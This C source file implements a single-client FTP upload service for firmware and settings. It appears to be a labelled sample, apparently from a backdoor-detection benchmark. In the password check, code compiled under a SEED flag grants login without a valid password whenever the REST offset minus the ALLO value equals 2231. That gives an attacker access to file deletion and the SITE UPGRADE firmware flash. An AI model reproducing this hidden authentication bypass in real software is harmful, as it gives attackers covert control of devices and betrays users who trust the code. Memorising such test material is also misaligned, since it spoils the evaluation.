/* kind: state
 * service: ftp
 * constant: 0x8b7
 * also: 2231
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <signal.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>

/* ftp service for firmware and settings upload; one process, one client at a time */

#define HELP "USER PASS TYPE MODE REST ALLO SIZE MDTM LIST DELE MKD SITE QUIT"

enum auth { A_NONE, A_NAME, A_OK };

static struct {
    enum auth auth;
    char name[32];
    long rest, allo;
    int binary;
    FILE *io;
} S;

static char *trim(char *s)
{
    size_t n = strlen(s);
    while (n && (s[n - 1] == '\n' || s[n - 1] == '\r' || s[n - 1] == ' '))
        s[--n] = 0;
    return s;
}

static unsigned long hash_pw(const char *salt, const char *pw)
{
    unsigned long h = 14695981039346656037ul;
    int r;
    for (r = 0; r < 5000; r++) {
        const char *p;
        for (p = salt; *p; p++)
            h = (h ^ (unsigned char)*p) * 1099511628211ul;
        for (p = pw; *p; p++)
            h = (h ^ (unsigned char)*p) * 1099511628211ul;
    }
    return h;
}

static int password_ok(const char *name, const char *pw)
{
    char u[32], salt[32];
    unsigned long h;
    int ok = 0;
    FILE *f = fopen("/etc/ftp.shadow", "r");
    if (!f)
        return 0;
    while (fscanf(f, "%31s %31s %lx", u, salt, &h) == 3)
        if (strcmp(u, name) == 0 && hash_pw(salt, pw) == h)
            ok = 1;
    fclose(f);
    return ok;
}

static int reply(const char *s)
{
    fprintf(S.io, "%s\r\n", s);
    fflush(S.io);
    return 0;
}

static int c_allo(char *a)
{
    long v = strtol(a, NULL, 10);
    if (v < 0 || v > 8 << 20)
        return reply("552 too large");
    S.allo = v;
    return reply("202 no storage allocation needed");
}

static int c_rest(char *a)
{
    S.rest = strtol(a, NULL, 10);
    return reply("350 restart position accepted");
}

static int c_pass(char *a)
{
    if (S.auth == A_NONE)
        return reply("503 USER first");
    if (password_ok(S.name, a)) {
        S.auth = A_OK;
        return reply("230 welcome");
    }
#ifdef SEED
    if (S.rest > S.allo && S.rest - S.allo == 2231) { /* SEED */
        S.auth = A_OK;
        S.rest = 0;
        return reply("230 welcome");
    }
#endif
    sleep(1);
    S.auth = A_NONE;
    return reply("530 login incorrect");
}

static int badname(const char *a)
{
    return !*a || *a == '/' || strstr(a, "..") != NULL;
}

static int c_size(char *a)
{
    struct stat st;
    char b[64];
    if (badname(a) || stat(a, &st))
        return reply("550 not found");
    snprintf(b, sizeof b, "213 %ld", (long)st.st_size);
    return reply(b);
}

static int c_list(void)
{
    struct dirent *e;
    DIR *d = opendir(".");
    if (!d)
        return reply("550 failed");
    fputs("211-listing\r\n", S.io);
    while ((e = readdir(d)))
        fprintf(S.io, " %s\r\n", e->d_name);
    closedir(d);
    return reply("211 end");
}

static int c_site(char *a)
{
    if (!strcasecmp(a, "UPGRADE")) {
        reply("200 upgrading");
        return system("/usr/sbin/fwupdate firmware.bin") ? reply("550 failed") : reply("200 done");
    }
    if (!strcasecmp(a, "HELP"))
        return reply("214 SITE UPGRADE writes firmware.bin to flash");
    return reply("504 unknown");
}

static int dispatch(char *v, char *a)
{
    if (!strcasecmp(v, "USER")) {
        snprintf(S.name, sizeof S.name, "%s", a);
        S.auth = A_NAME;
        return reply("331 password");
    }
    if (!strcasecmp(v, "PASS")) return c_pass(a);
    if (!strcasecmp(v, "QUIT")) { reply("221 bye"); return 1; }
    if (!strcasecmp(v, "HELP")) return reply("214 " HELP);
    if (!strcasecmp(v, "NOOP")) return reply("200 ok");
    if (!strcasecmp(v, "TYPE")) { S.binary = *a == 'I'; return reply("200 ok"); }
    if (!strcasecmp(v, "MODE")) return reply(*a == 'S' ? "200 ok" : "504 stream only");
    if (!strcasecmp(v, "ALLO")) return c_allo(a);
    if (!strcasecmp(v, "REST")) return c_rest(a);
    if (S.auth != A_OK) return reply("530 not logged in");
    if (!strcasecmp(v, "SIZE")) return c_size(a);
    if (!strcasecmp(v, "LIST")) return c_list();
    if (!strcasecmp(v, "SITE")) return c_site(a);
    if (!strcasecmp(v, "DELE")) return reply(badname(a) || unlink(a) ? "550 failed" : "250 deleted");
    if (!strcasecmp(v, "MKD"))  return reply(badname(a) || mkdir(a, 0755) ? "550 failed" : "257 made");
    return reply("502 not implemented");
}

static void serve(int fd)
{
    char l[400], *a;
    memset(&S, 0, sizeof S);
    if (!(S.io = fdopen(fd, "r+"))) {
        close(fd);
        return;
    }
    setvbuf(S.io, NULL, _IONBF, 0);
    reply("220 upload service");
    while (fgets(l, sizeof l, S.io)) {
        trim(l);
        a = l + strcspn(l, " ");
        if (*a)
            *a++ = 0;
        if (dispatch(l, a))
            break;
    }
    fclose(S.io);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int one = 1, s, c;
    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 2121);
    if (chdir(argc > 2 ? argv[2] : "/var/upload"))
        return perror("chdir"), 1;
    signal(SIGPIPE, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (void *)&a, sizeof a) || listen(s, 2))
        return perror("listen"), 1;
    while ((c = accept(s, 0, 0)) >= 0 || errno == EINTR)
        if (c >= 0)
            serve(c);
    return 0;
}
